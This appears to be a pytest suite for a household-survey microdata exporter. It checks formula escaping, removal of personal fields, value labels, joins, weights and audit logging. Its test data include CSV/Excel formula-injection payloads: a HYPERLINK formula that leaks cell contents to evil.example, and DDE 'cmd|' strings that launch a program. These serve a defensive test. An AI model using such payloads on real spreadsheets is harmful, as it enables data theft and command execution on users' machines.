"""Microdata exports opened as a researcher would: pyreadstat, openpyxl, a CSV reader,
pyarrow and R's haven, after hostile strings were submitted through the real store."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest

from analysis.export import ExportError, is_formula_like, microdata, microdata_frame, write_microdata
from analysis.export.microdata import xlsxfile
from analysis.export.microdata.names import MAX_LENGTH
from survey.fieldwork.audit_log import AuditLog
from survey.questionnaire.types import QUESTION_TYPES
from survey.simulate import generate
from survey.store.response_store import ResponseStore

FORMATS = ("csv", "parquet", "sav", "dta", "xlsx")
# Submitted as answers; the store trims text, so the leading tab and CR+LF become "=1+1", "=2+2"
# (comments is a multiline question: line breaks inside are kept).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=2+2",
    "two lines:\n=3+3 and a CR+LF\r\n@inside",
    "-5",
    "Nur'aini D'Souza — Śląsk 日本 🙂",
    "\uff1d1+1",
]
PII_HOUSEHOLD = {"respondent_name", "phone", "address", "gps"}
PII_MEMBERS = {"member_name"}
READSTAT_TYPE = {"long": "int32", "double": "double", "str": "string"}  # pyreadstat's names for Stata's


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())  # a byte-order mark, for Excel
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _read_stat(data: bytes, fmt: str, tmp_path: Path):
    path = tmp_path / f"read.{fmt}"
    path.write_bytes(data)
    return (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path))


def _read_xlsx(data: bytes) -> tuple[list[str], list[tuple]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    rows = list(book["data"].iter_rows(values_only=True))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), "a formula cell"
    return list(rows[0]), rows[1:]


def _columns(data: bytes, fmt: str, tmp_path: Path) -> list[str]:
    if fmt == "csv":
        return list(_read_csv(data)[0])
    if fmt == "parquet":
        return pq.read_schema(io.BytesIO(data)).names
    if fmt == "xlsx":
        return _read_xlsx(data)[0]
    return list(_read_stat(data, fmt, tmp_path)[0].columns)


@pytest.fixture(scope="module")
def household_store(tmp_path_factory):
    """Ten simulated households, one hostile comment each, names with apostrophes."""
    store = ResponseStore(tmp_path_factory.mktemp("store"))
    answers = generate("household", len(HOSTILE), seed=5)
    for i, household in enumerate(answers):
        household["comments"] = HOSTILE[i]
        household["respondent_name"] = "Siti Nur'aini" if i % 2 else "=HYPERLINK(\"http://evil.example\")"
        household["members"][0]["member_name"] = "@D'Angelo Ó Briain"
    for i, household in enumerate(answers):
        store.submit("household", household, enumerator=f"enum{i % 2 + 1:02d}", response_id=f"hh-{i}")
    return store


def test_hostile_text_is_neutralised_in_csv_and_stays_text(household_store):
    rows = _read_csv(microdata(household_store, "household", "csv", user="t"))
    stored = household_store.read("household").set_index("_response_id")["comments"]
    for row in rows:
        value = stored[row["response_id"]]
        cell = row["comments"]
        if is_formula_like(value):
            assert cell == "'" + value
        else:
            assert cell == value
    comments = {row["comments"] for row in rows}
    assert "'=1+1" in comments and "'=2+2" in comments  # the trimmed tab and CR+LF cases
    assert "-5" in comments  # a number stays a number
    assert "Nur'aini D'Souza — Śląsk 日本 🙂" in comments
    assert len(rows) == len(HOSTILE)  # line breaks are quoted, not new rows
    assert any(c.startswith("two lines:\n=3+3") for c in comments)
    assert "'\uff1d1+1" in comments
    assert {"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0"} <= comments
    for table in ("household", "household_members"):  # no cell anywhere could run as a formula
        for row in _read_csv(microdata(household_store, table, "csv", user="t", identified=True)):
            assert not any(is_formula_like(cell) for cell in row.values() if cell)
            assert row.get("member_name") in (None, "'@D'Angelo Ó Briain") or not row["member_name"].startswith("@")


def test_hostile_text_is_a_text_cell_in_xlsx_and_numbers_are_numbers(household_store):
    data = microdata(household_store, "household", "xlsx", user="t", identified=True)
    header, rows = _read_xlsx(data)
    stored = household_store.read("household").set_index("_response_id")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["data"]
    at = {name: i for i, name in enumerate(header)}
    for r, row in enumerate(rows, start=2):
        rid = row[at["response_id"]]
        # the stored text, no apostrophe added (a CR is the LF of Excel's line breaks)
        assert row[at["comments"]] == stored.loc[rid, "comments"].replace("\r\n", "\n").replace("\r", "\n")
        cell = sheet.cell(row=r, column=at["comments"] + 1)
        assert cell.data_type == "s"
        assert cell.quotePrefix == is_formula_like(cell.value)
        assert row[at["respondent_name"]] == stored.loc[rid, "respondent_name"]
        assert isinstance(row[at["hh_size"]], int) and row[at["hh_size"]] == stored.loc[rid, "hh_size"]
        assert isinstance(row[at["rw"]], int)
        assert row[at["has_internet"]] in ("yes", "no")
        satisfaction = stored.loc[rid, "egov_satisfaction"]  # a 1-5 scale: numbers
        assert row[at["egov_satisfaction"]] == (None if pd.isna(satisfaction) else int(satisfaction))
        assert isinstance(row[at["interview_date"]], dt.datetime)  # a date cell
        assert row[at["interview_date"]].date() == stored.loc[rid, "interview_date"].date()
        assert row[at["revision"]] == 1
        internet = row[at["internet_type_other"]]
        assert internet in (0, 1) if stored.loc[rid, "has_internet"] == "yes" else internet is None
    variables = list(book["variables"].iter_rows(values_only=True))
    assert ("kecamatan", "kecamatan", "District (kecamatan)", "select_one",
            "laweyan = Laweyan; serengan = Serengan; pasar_kliwon = Pasar Kliwon; jebres = Jebres; "
            "banjarsari = Banjarsari") in variables


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_stat_files_read_back_with_labels_types_and_dates(household_store, tmp_path, fmt):
    data = microdata(household_store, "household", fmt, user="t", lang="id")
    df, meta = _read_stat(data, fmt, tmp_path)
    labels = dict(zip(meta.column_names, meta.column_labels))
    assert labels["kecamatan"] == "Kecamatan"
    assert labels["has_internet"] == "Apakah rumah tangga ini memiliki akses internet di rumah?"
    assert labels["internet_type_fixed_broadband"].endswith(": Internet tetap pita lebar (fiber, kabel, ADSL)")
    assert labels["response_id"] == "ID respons (UUID)"
    values = meta.variable_value_labels
    assert values["kecamatan"] == {1: "Laweyan", 2: "Serengan", 3: "Pasar Kliwon", 4: "Jebres", 5: "Banjarsari"}
    assert values["has_internet"] == {1: "Ya", 2: "Tidak"}
    assert values["internet_type_other"] == {0: "Tidak", 1: "Ya"}
    assert values["egov_satisfaction"] == {1: "Sangat tidak puas", 2: "Tidak puas", 3: "Biasa saja", 4: "Puas",
                                           5: "Sangat puas"}  # numeric choice names keep their numbers
    assert values["status"][1] == "Dikirim"
    stored = household_store.read("household").set_index("_response_id")
    codes = {"laweyan": 1, "serengan": 2, "pasar_kliwon": 3, "jebres": 4, "banjarsari": 5}
    for _, row in df.iterrows():
        original = stored.loc[row["response_id"]]
        assert row["kecamatan"] == codes[original["kecamatan"]]
        assert row["hh_size"] == original["hh_size"]
        assert row["interview_date"] == original["interview_date"].date()  # a date, not a datetime
        assert row["comments"] == original["comments"]  # text as stored: stat files run no formulas
    assert isinstance(df["interview_date"].dropna().iloc[0], dt.date)
    assert not PII_HOUSEHOLD & set(df.columns)
    assert all(len(name) <= MAX_LENGTH for name in df.columns)
    if fmt == "dta":
        types = meta.readstat_variable_types
        inst = household_store.instrument("household")
        for q in inst.questions:
            if q.stores_answer and q.name in types:
                assert types[q.name] == READSTAT_TYPE[QUESTION_TYPES[q.type].stata_type], q.name
        assert types["internet_type_other"] == READSTAT_TYPE[QUESTION_TYPES["select_multiple"].stata_type]
        assert meta.original_variable_types["interview_date"] == "%td"
    else:
        measures = meta.variable_measure
        assert measures["hh_size"] == "scale" and measures["kecamatan"] == "nominal"
        assert meta.original_variable_types["interview_date"].startswith("DATE")
        assert meta.original_variable_types["hh_size"].endswith(".0")


def test_labels_follow_the_chosen_language(household_store, tmp_path):
    _, meta = _read_stat(microdata(household_store, "household_members", "sav", user="t", lang="en"), "sav", tmp_path)
    labels = dict(zip(meta.column_names, meta.column_labels))
    assert labels["sex"] == "Sex" and meta.variable_value_labels["sex"] == {1: "Male", 2: "Female"}
    table = pq.read_table(io.BytesIO(microdata(household_store, "household_members", "parquet", user="t", lang="id")))
    field = table.schema.field("sex")
    assert field.metadata[b"label"].decode() == "Jenis kelamin"
    assert json.loads(field.metadata[b"value_labels"]) == {"male": "Laki-laki", "female": "Perempuan"}
    assert table.column("sex").type.value_type == "string"  # a dictionary (factor) of choice names
    assert table.schema.field("age").type == "int64" and table.schema.field("internet_location_home").type == "int8"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("table, pii", [("household", PII_HOUSEHOLD), ("household_members", PII_MEMBERS)])
def test_identified_and_deidentified_differ_by_exactly_the_pii_fields(household_store, tmp_path, fmt, table, pii):
    plain = _columns(microdata(household_store, table, fmt, user="t"), fmt, tmp_path)
    identified = _columns(microdata(household_store, table, fmt, user="t", identified=True), fmt, tmp_path)
    assert set(identified) - set(plain) == pii
    assert [c for c in identified if c not in pii] == plain  # same names, same order


def test_deidentified_values_are_the_identified_ones_without_pii(household_store):
    plain = pd.read_parquet(io.BytesIO(microdata(household_store, "household", "parquet", user="t")))
    full = pd.read_parquet(io.BytesIO(microdata(household_store, "household", "parquet", user="t", identified=True)))
    pd.testing.assert_frame_equal(plain, full.drop(columns=sorted(PII_HOUSEHOLD))[plain.columns])
    assert "@D'Angelo Ó Briain" in set(pd.read_parquet(io.BytesIO(
        microdata(household_store, "household_members", "parquet", user="t", identified=True)))["member_name"])


@pytest.mark.parametrize("fmt", ["csv", "dta"])
def test_members_join_their_household_one_to_one_on_the_key(household_store, tmp_path, fmt):
    if fmt == "csv":
        households = pd.DataFrame(_read_csv(microdata(household_store, "household", "csv", user="t")))
        members = pd.DataFrame(_read_csv(microdata(household_store, "household_members", "csv", user="t")))
    else:
        households = _read_stat(microdata(household_store, "household", "dta", user="t"), "dta", tmp_path)[0]
        members = _read_stat(microdata(household_store, "household_members", "dta", user="t"), "dta", tmp_path)[0]
    key = next(c for c in members.columns if "response_id" in c)
    assert households[key].is_unique
    joined = members.merge(households, on=key, how="left", validate="many_to_one", suffixes=("", "_hh"),
                           indicator=True)
    assert (joined["_merge"] == "both").all() and len(joined) == len(members)
    assert (joined["kecamatan"] == joined["kecamatan_hh"]).all()
    assert (joined["psu"] == joined["psu_hh"]).all()
    sizes = joined.groupby(key).size()
    assert (sizes == households.set_index(key).loc[sizes.index, "hh_size"].astype(int)).all()
    assert list(members.columns[:4]) == ["response_id", "member_index", "kecamatan", "psu"]


def test_weights_given_by_response_id_go_to_the_households_and_their_members(household_store):
    weights = {f"hh-{i}": 100.0 + i for i in range(len(HOSTILE))}
    households = microdata_frame(household_store, "household", weights=weights).frame
    members = microdata_frame(household_store, "household_members", weights=weights).frame
    assert households.set_index("response_id")["weight"].to_dict() == weights
    assert (members["weight"] == members["response_id"].map(weights)).all()
    assert (members["household_weight"] == members["weight"]).all()
    assert list(members.columns[:6]) == ["response_id", "member_index", "kecamatan", "psu", "household_weight",
                                         "weight"]
    assert "weight" not in microdata_frame(household_store, "household_members").frame.columns


def test_every_export_is_in_the_audit_log(household_store, tmp_path):
    log = AuditLog(household_store.root)
    before = len(log.entries())
    microdata(household_store, "household_members", "dta", user="admin1", lang="id", identified=True)
    with pytest.raises(ExportError):
        microdata(household_store, "nonsense", "csv", user="admin1")
    entries = log.entries(newest_first=False)[before:]
    assert [(e["user"], e["action"], e["object"], e["outcome"]) for e in entries] == [
        ("admin1", "export", "household_members", "ok"), ("admin1", "export", "nonsense", "invalid")]
    assert entries[0]["detail"] | {"rows": None, "bytes": None} == {
        "identified": True, "format": "dta", "lang": "id", "rows": None, "bytes": None, "weights": False}
    assert entries[0]["detail"]["rows"] == len(household_store.read("household_members"))
    path = write_microdata(household_store, "agency", "csv", tmp_path / "agency.csv", user="admin1")
    assert path.read_bytes().startswith("\ufeff".encode()) and log.entries()[0]["object"] == "agency"


def test_bad_requests_are_bilingual_export_errors(household_store):
    with pytest.raises(ExportError) as error:
        microdata(household_store, "household", "docx", user="t")
    assert "csv, parquet, sav, dta, xlsx" in str(error.value) and "pilih salah satu" in error.value.texts["id"]
    with pytest.raises(ExportError):
        microdata(household_store, "household", "csv", user="t", lang="fr")


def test_xlsx_refuses_more_rows_than_excel_holds(household_store, monkeypatch):
    monkeypatch.setattr(xlsxfile, "MAX_ROWS", 3)
    with pytest.raises(ExportError, match="use CSV or Parquet"):
        microdata(household_store, "household", "xlsx", user="t")


LEDGER_V1 = """
id: ledger
version: 1
title: {id: Buku, en: Ledger}
choice_lists:
  kind: [{name: a, label: {id: A, en: A}}, {name: b, label: {id: B, en: B}}, {name: c, label: {id: C, en: C}}]
questions:
  - {name: note_text, type: text, label: {id: Catatan, en: Note}}
  - {name: change, type: integer, label: {id: Perubahan, en: Change}}
  - {name: balance, type: decimal, label: {id: Saldo, en: Balance}}
  - {name: big, type: integer, label: {id: Besar, en: Big}}
  - {name: kind, type: select_one, choices: kind, label: {id: Jenis, en: Kind}}
  - {name: kinds, type: select_multiple, choices: kind, label: {id: Jenis-jenis, en: Kinds}}
  - {name: day, type: date, label: {id: Hari, en: Day}}
"""


@pytest.fixture()
def ledger_store(tmp_path):
    folder = tmp_path / "instruments"
    folder.mkdir()
    (folder / "ledger.yaml").write_text(LEDGER_V1)
    store = ResponseStore(tmp_path / "data", instruments_dir=folder)
    store.submit("ledger", {"note_text": "-5", "change": -5, "balance": -5.5, "big": 3_000_000_000, "kind": "c",
                            "kinds": ["a", "c"], "day": "2026-01-31"}, enumerator="e1", response_id="r1")
    store.submit("ledger", {"note_text": "=1+1", "change": 7, "kinds": ["b"]}, enumerator="e1", response_id="r2")
    return store


def test_negative_numbers_stay_numbers_everywhere(ledger_store, tmp_path):
    rows = {r["response_id"]: r for r in _read_csv(microdata(ledger_store, "ledger", "csv", user="t"))}
    assert (rows["r1"]["change"], rows["r1"]["balance"], rows["r1"]["note_text"]) == ("-5", "-5.5", "-5")
    assert rows["r2"]["note_text"] == "'=1+1" and rows["r2"]["balance"] == "" and rows["r1"]["day"] == "2026-01-31"
    header, xrows = _read_xlsx(microdata(ledger_store, "ledger", "xlsx", user="t"))
    first = dict(zip(header, next(r for r in xrows if r[0] == "r1")))
    assert first["change"] == -5 and first["balance"] == -5.5 and first["big"] == 3_000_000_000
    assert first["note_text"] == "-5"  # a text answer stays text
    for fmt in ("sav", "dta"):
        df, meta = _read_stat(microdata(ledger_store, "ledger", fmt, user="t"), fmt, tmp_path)
        one = df.set_index("response_id").loc["r1"]
        assert (one["change"], one["balance"], one["big"]) == (-5, -5.5, 3_000_000_000)
        if fmt == "dta":  # beyond a Stata long: stored as double, exactly
            assert meta.readstat_variable_types["big"] == "double"
            assert meta.readstat_variable_types["change"] == "int32"


def test_choices_an_older_version_had_keep_codes_and_columns(ledger_store, tmp_path):
    folder = ledger_store.instruments_dir
    (folder / "ledger.yaml").write_text(
        LEDGER_V1.replace("version: 1", "version: 2").replace(", {name: c, label: {id: C, en: C}}", ""))
    md = microdata_frame(ledger_store, "ledger")
    assert [v.name for v in md.variables][-2:] == ["day", "kinds_c"]
    kinds_c = md.frame.set_index("response_id")["kinds_c"]
    assert kinds_c["r1"] == 1 and kinds_c["r2"] == 0
    df, meta = _read_stat(microdata(ledger_store, "ledger", "dta", user="t"), "dta", tmp_path)
    assert meta.variable_value_labels["kind"] == {1: "A", 2: "B", 3: "c"}
    assert df.set_index("response_id").loc["r1", "kind"] == 3


def test_an_empty_table_exports_its_variables(tmp_path):
    store = ResponseStore(tmp_path)
    for fmt in FORMATS:
        columns = _columns(microdata(store, "household_members", fmt, user="t"), fmt, tmp_path) if fmt != "csv" \
            else microdata(store, "household_members", "csv", user="t").decode("utf-8-sig").splitlines()[0].split(",")
        assert columns[:4] == ["response_id", "member_index", "kecamatan", "psu"], fmt


@pytest.mark.skipif(shutil.which("Rscript") is None, reason="R (Rscript) is not on this machine")
def test_haven_reads_the_sav_and_dta_with_labels(household_store, tmp_path):
    for fmt in ("sav", "dta"):
        (tmp_path / f"members.{fmt}").write_bytes(microdata(household_store, "household_members", fmt, user="t"))
    script = """
    suppressMessages(library(haven)); library(jsonlite)
    out <- list()
    for (fmt in c("sav", "dta")) {
      d <- if (fmt == "sav") read_sav(paste0("members.", fmt)) else read_dta(paste0("members.", fmt))
      out[[fmt]] <- list(
        sex_label = attr(d$sex, "label"), sex_labels = as.list(attr(d$sex, "labels")),
        kecamatan_labels = as.list(attr(d$kecamatan, "labels")),
        dummy_labels = as.list(attr(d$internet_location_home, "labels")),
        age_class = class(d$age), sex_factor = as.character(as_factor(d$sex)),
        key = class(d$response_id), n = nrow(d))
    }
    cat(toJSON(out, auto_unbox = TRUE))
    """
    result = subprocess.run(["Rscript", "-e", script], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    found = json.loads(result.stdout)
    members = household_store.read("household_members")
    for fmt in ("sav", "dta"):
        got = found[fmt]
        assert got["sex_label"] == "Sex" and got["sex_labels"] == {"Male": 1, "Female": 2}
        assert got["kecamatan_labels"]["Pasar Kliwon"] == 3
        assert got["dummy_labels"] == {"No": 0, "Yes": 1}
        assert got["age_class"] == "numeric" and got["key"] == "character" and got["n"] == len(members)
        assert got["sex_factor"] == members["sex"].map({"male": "Male", "female": "Female"}).tolist()


# ---------------------------------------------------------------------- streamed to disk

@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("table", ["household", "household_members"])
def test_a_file_streamed_in_small_batches_holds_what_the_whole_export_holds(household_store, tmp_path, monkeypatch,
                                                                            fmt, table):
    from analysis.export.microdata import labelled

    whole = microdata(household_store, table, fmt, user="t", lang="id")
    monkeypatch.setattr(labelled, "BATCH_ROWS", 3)  # 10 households, 30-odd members: many batches
    path = write_microdata(household_store, table, fmt, tmp_path / f"out.{fmt}", user="t", lang="id")
    streamed = path.read_bytes()
    if fmt == "csv":
        assert streamed == whole
    elif fmt == "parquet":
        a, b = pq.read_table(io.BytesIO(whole)), pq.read_table(io.BytesIO(streamed))
        assert a.equals(b) and a.schema.field(3).metadata == b.schema.field(3).metadata
    elif fmt == "xlsx":
        assert _read_xlsx(whole) == _read_xlsx(streamed)
    else:
        (a, meta_a), (b, meta_b) = _read_stat(whole, fmt, tmp_path), _read_stat(streamed, fmt, tmp_path)
        pd.testing.assert_frame_equal(a, b)
        assert meta_a.variable_value_labels == meta_b.variable_value_labels
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left


def test_a_streamed_xlsx_is_refused_before_reading_and_leaves_the_old_file(household_store, tmp_path, monkeypatch):
    monkeypatch.setattr(xlsxfile, "MAX_ROWS", 3)
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the earlier file")
    with pytest.raises(ExportError, match="use CSV or Parquet"):
        write_microdata(household_store, "household", "xlsx", target, user="t")
    assert target.read_bytes() == b"the earlier file" and len(list(tmp_path.iterdir())) == 1
